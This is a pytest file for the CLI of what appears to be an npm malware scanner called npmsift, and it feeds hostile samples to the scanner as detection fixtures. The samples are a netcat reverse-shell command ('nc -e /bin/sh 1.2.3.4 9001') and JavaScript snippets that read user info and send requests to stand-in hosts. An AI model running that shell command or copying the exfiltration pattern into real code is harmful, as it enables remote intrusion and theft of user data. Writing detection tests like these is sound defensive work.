from __future__ import annotations

import json

import pytest

from npmsift.cli import main
from npmsift.feedfixture import FixtureFeed, build_tarball


@pytest.fixture(autouse=True, scope="module")
def _warm_models():
    from npmsift.models import (default_obfuscation_model,
                                default_screen_model, default_url_model)
    default_obfuscation_model()
    default_screen_model()
    default_url_model()


def write_package(tmp_path, name, files, manifest_extra=None):
    manifest = {"name": name, "version": "1.0.0", "main": "index.js"}
    manifest.update(manifest_extra or {})
    content = {"package.json": json.dumps(manifest).encode()}
    content.update({p: s.encode() for p, s in files.items()})
    tgz = tmp_path / f"{name}.tgz"
    tgz.write_bytes(build_tarball(content))
    return tgz


def test_scan_benign_exit_zero(tmp_path, capsys):
    tgz = write_package(tmp_path, "ok", {"index.js": "module.exports = 1;\n"})
    code = main(["scan", str(tgz), "--static-timeout", "30"])
    assert code == 0
    payload = json.loads(capsys.readouterr().out)
    assert payload["verdict"] == "benign"


def test_scan_malicious_exit_two(tmp_path, capsys):
    src = ("const os = require('os');\nconst https = require('https');\n"
           "const data = JSON.stringify(os.userInfo());\n"
           "https.request('https://q9z.xyz/u');\n")
    tgz = write_package(tmp_path, "mal", {"index.js": src})
    code = main(["scan", str(tgz), "--static-timeout", "30"])
    assert code == 2
    payload = json.loads(capsys.readouterr().out)
    assert "M1" in payload["categories"]


def test_scan_report_to_file(tmp_path):
    tgz = write_package(tmp_path, "ok", {"index.js": "module.exports = 1;\n"})
    out = tmp_path / "report.json"
    main(["scan", str(tgz), "--out", str(out), "--static-timeout", "30"])
    assert json.loads(out.read_text())["package"] == "ok@1.0.0"


def test_batch_cli(tmp_path, capsys):
    a = write_package(tmp_path, "a", {"index.js": "module.exports = 1;\n"})
    b = write_package(tmp_path, "b", {"index.js": "module.exports = 2;\n"})
    listfile = tmp_path / "list.txt"
    listfile.write_text(f"{a}\n{b}\n")
    out_dir = tmp_path / "reports"
    code = main(["batch", str(listfile), "--jobs", "2", "--out",
                 str(out_dir), "--static-timeout", "30"])
    assert code == 0
    assert len(list(out_dir.glob("*.json"))) == 2
    assert "scanned=2" in capsys.readouterr().out


def test_shell_cli(capsys):
    code = main(["shell", "--cmd", "nc -e /bin/sh 1.2.3.4 9001"])
    assert code == 2
    out = capsys.readouterr().out
    assert "R4" in out and "R1" in out and "M4" in out


def test_obf_cli(tmp_path, capsys):
    from npmsift.corpus import plain_source
    from npmsift.obfuscator import obfuscate
    f = tmp_path / "ob.js"
    f.write_text(obfuscate(plain_source(7), seed=7))
    code = main(["obf", str(f)])
    assert code == 2
    assert "obfuscated" in capsys.readouterr().out


def test_staticseq_and_ingest_roundtrip(tmp_path, capsys):
    merged = tmp_path / "merged.js"
    merged.write_text(
        "const os = require('os');\nconst https = require('https');\n"
        "os.userInfo();\nhttps.request('http://x.qz2.icu/u');\n")
    main(["staticseq", str(merged)])
    dump = capsys.readouterr().out.strip().splitlines()
    assert len(dump) == 2
    trace = tmp_path / "trace.jsonl"
    trace.write_text("\n".join(dump) + "\n")
    code = main(["ingest", str(trace), "--root", str(tmp_path)])
    out = capsys.readouterr().out
    assert code == 2
    assert "M1" in out


def test_mirror_sync_cli(tmp_path, capsys):
    feed = FixtureFeed().start()
    try:
        feed.publish("pkg-a", "1.0.0")
        store = tmp_path / "store"
        code = main(["mirror-sync", "--feed", feed.base_url,
                     "--store", str(store)])
        assert code == 0
        assert "entries=1" in capsys.readouterr().out
    finally:
        feed.stop()


def test_mltrain_mlpredict_cli(tmp_path, capsys):
    csv_path = tmp_path / "rows.csv"
    lines = ["f0,f1,label"]
    for i in range(30):
        lines.append(f"{i % 7},{i % 3},0")
        lines.append(f"{10 + i % 7},{5 + i % 3},1")
    csv_path.write_text("\n".join(lines) + "\n")
    model_path = tmp_path / "model.txt"
    assert main(["mltrain", "--csv", str(csv_path), "--out",
                 str(model_path), "--trees", "10"]) == 0
    assert main(["mlpredict", "--model", str(model_path), "--csv",
                 str(csv_path)]) == 0
    out = capsys.readouterr()
    assert "accuracy 1.0000" in out.err


def test_reconstruct_cli(tmp_path, capsys):
    pkg_dir = tmp_path / "pkg"
    pkg_dir.mkdir()
    (pkg_dir / "package.json").write_text(json.dumps(
        {"name": "r", "version": "1.0.0", "main": "index.js"}))
    (pkg_dir / "index.js").write_text(
        "const u = require('./util'); u.f();")
    (pkg_dir / "util.js").write_text("exports.f = () => 1;")
    code = main(["reconstruct", "--pkg", str(pkg_dir), "--entry",
                 "index.js"])
    assert code == 0
    assert "export_util_f" in capsys.readouterr().out
